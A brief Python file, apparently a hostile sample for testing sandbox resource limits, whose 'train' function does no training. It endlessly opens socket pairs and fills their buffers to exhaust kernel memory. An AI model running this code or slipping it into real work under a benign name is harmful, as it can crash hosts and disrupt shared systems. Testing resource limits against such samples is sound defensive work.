"""Kernel memory in the buffers of sockets."""

import socket

from honest import load


def train(data, *, seed):
    held = []
    while True:
        pair = socket.socketpair()
        held.append(pair)
        pair[0].setblocking(False)
        try:
            while True:
                pair[0].send(bytes(1 << 16))
        except BlockingIOError:
            pass
